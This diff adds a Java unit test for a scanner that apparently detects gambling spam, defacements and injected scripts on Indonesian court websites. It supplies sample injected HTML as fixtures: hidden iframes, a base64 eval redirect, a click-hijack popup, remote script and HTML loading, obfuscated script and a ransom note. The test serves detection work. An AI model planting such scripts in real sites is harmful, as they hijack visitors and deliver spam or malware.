@@ -1,0 +1,111 @@
+package id.jagasitus.watch;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+
+import java.nio.charset.StandardCharsets;
+import java.time.LocalDate;
+import java.util.Base64;
+import java.util.List;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+/**
+ * One page for each place that planted words, links and programs were found in late: forwarders,
+ * bought hosts, frames that carry their page, titles at odds with their pages. Beside them pages of
+ * courts that were taken for such.
+ */
+final class PlacesTest {
+
+  private static final String INNER =
+      Base64.getEncoder()
+          .encodeToString(
+              "<h1>slot gacor</h1><a href='https://kue.example.org/'>togel</a>"
+                  .getBytes(StandardCharsets.UTF_8));
+
+  private static final List<String> PLANTED =
+      List.of(
+          "<link rel=canonical href='https://linktr.ee/pintulangit'>",
+          "<link rel=amphtml href='https://s.id/pintulangit'>",
+          "<link rel=canonical href='https://pintulangit.click/'>",
+          "<iframe src='https://linktr.ee/pintulangit' width=0 height=0></iframe>",
+          "<iframe src='https://kue.example.org/' style='position:fixed;inset:0'></iframe>",
+          "<iframe src='data:text/html;base64," + INNER + "'></iframe>",
+          "<p><a href='https://pintulangit.vip/'>kakek merah</a> dan <a href='https://kapallayar.sbs/'>cuan</a></p>",
+          "<p><a href='https://pintulangit.click/?ref=7'>info kegiatan</a></p>",
+          "<p><a href='https://kue.example.org/a'>MASUK</a> <a href='https://kue.example.org/b'>DAFTAR</a></p>",
+          "<span style='display:none'><a href='https://pintulangit.click/'>x</a></span>",
+          "<p><bdo dir=rtl>niwxam gnokgnoh legot</bdo></p>",
+          "<style>.q::before{content:'scatter hitam'}</style><a class=q href='https://kue.example.org/'></a>",
+          "<script>document.onclick=function(){window.open('https://s.id/siluman303')}</script>",
+          "<script>eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly9zLmlkL2tvaW51c2FudGFyYSI='))</script>",
+          "<div id=q></div><script>fetch('https://raw.githubusercontent.com/x/lp/main/a.html').then(a=>a.text())"
+              + ".then(a=>{document.getElementById('q').innerHTML=a})</script>",
+          "<script>" + "[](![]+!![])+".repeat(20) + "</script>",
+          "<script src='http://104.21.75.86/app.min.js'></script>",
+          "<div style='position:fixed;inset:0;background:#000;color:red'><h2>Touched by Kucing</h2></div>",
+          "<p>All files have been encrypted. Send 0.4 BTC to bc1q3f5a8c2d7e9b1a4c6d8e0f2a4b6c8d0.</p>");
+
+  private static final List<String> TITLES =
+      List.of(
+          "KUDA168 Tempat Main Paling Seru",
+          "[+] Hacked by Kucing Terbang [+]",
+          "s l o t g a c o r",
+          "SlotGacor Malam Ini");
+
+  private static final List<String> ORDINARY =
+      List.of(
+          "<h1>关于法院</h1><p>" + "本法院依法审理刑事民事案件包括赌博盗窃案件".repeat(3) + "</p>",
+          "<h1>Keterangan Ahli Perkara 12/Pid.B/2026/PN Cth</h1><p>Percakapan: \"daftar di sini depo 50 bonus 50,"
+              + " slot gacor, wd kilat, maxwin\".</p><p>Riwayat: rajawali4d.xyz, ombakslot.vip, nagatoto.com.</p>",
+          "<h1>Selebgram Endorse Slot Nagatoto Dihukum 5 Bulan</h1><p>Majelis hakim menjatuhkan vonis. Terdakwa memasang"
+              + " kalimat \"slot gacor maxwin\". Penuntut umum pikir-pikir.</p>",
+          "<p>Baca: <a href='https://www.kompas.com/tren/read/judi-slot-gacor'>Kompas: Judi Slot</a></p>",
+          "<h1>Tinjauan Kriminologis Judi Slot Online</h1><p>Putusan memuat modus pelaku; terdakwa menawarkan situs"
+              + " slot gacor dan link alternatif.</p>",
+          "<p>Laporkan situs ke <a href='https://aduankonten.id'>aduankonten.id</a>, daftar aduan di sini.</p>",
+          "<div style='position:fixed;inset:0;background:#fff'>Memuat, mohon tunggu</div>",
+          "<p><a href='https://survei-kami.online/'>Isi survei</a></p>",
+          "<script>fetch('https://data.bmkg.go.id/cuaca').then(r=>r.json()).then(d=>{c.innerHTML=d.suhu})</script>");
+
+  private final CleanScanner scanner = new CleanScanner(Programs.EXPECTED);
+
+  @Test
+  void scan_everyPlace_isCritical() {
+    PLANTED.forEach(body -> expect(Verdict.CRITICAL, scan("Jam Pelayanan", body), body));
+  }
+
+  @Test
+  void scan_titleAtOddsWithItsPage_isCritical() {
+    TITLES.forEach(
+        title -> expect(Verdict.CRITICAL, scan(title, "<h1>Agenda Sidang</h1>"), title));
+  }
+
+  @Test
+  void scan_courtsOwnPages_stayQuiet() {
+    ORDINARY.forEach(body -> expect(Verdict.NONE, scan("Jam Pelayanan", body), body));
+  }
+
+  @Test
+  void scan_ownAddressThatRepeatsTheTitle_isJudgedLikeIt() {
+    String title = "Siaran Pers: Daftar Situs Judi Online yang Diblokir";
+    String own = "https://pn-contoh.go.id/siaran-pers-daftar-situs-judi-online-ya";
+    var told = scan(title, "<link rel=canonical href='" + own + "'><p>Komdigi memblokir.</p>");
+    expect(Verdict.NONE, told, own);
+  }
+
+  private static void expect(Verdict verdict, ScanResult result, String of) {
+    assertEquals(verdict, result.verdict(), () -> of + result);
+  }
+
+  private ScanResult scan(String title, String body) {
+    String html =
+        "<html><head><title>"
+            + title
+            + "</title></head><body><nav><a href='/'>Beranda</a><a href='/sejarah'>Sejarah</a>"
+            + "<a href='/kontak'>Kontak</a></nav><p>Pelayanan buka setiap hari kerja.</p>"
+            + body
+            + "</body></html>";
+    var hosts = new Hosts("pn-contoh.go.id", Set.of());
+    return scanner.scanPage("/jam.html", html, "/jam.html", hosts, LocalDate.of(2026, 11, 22));
+  }
+}
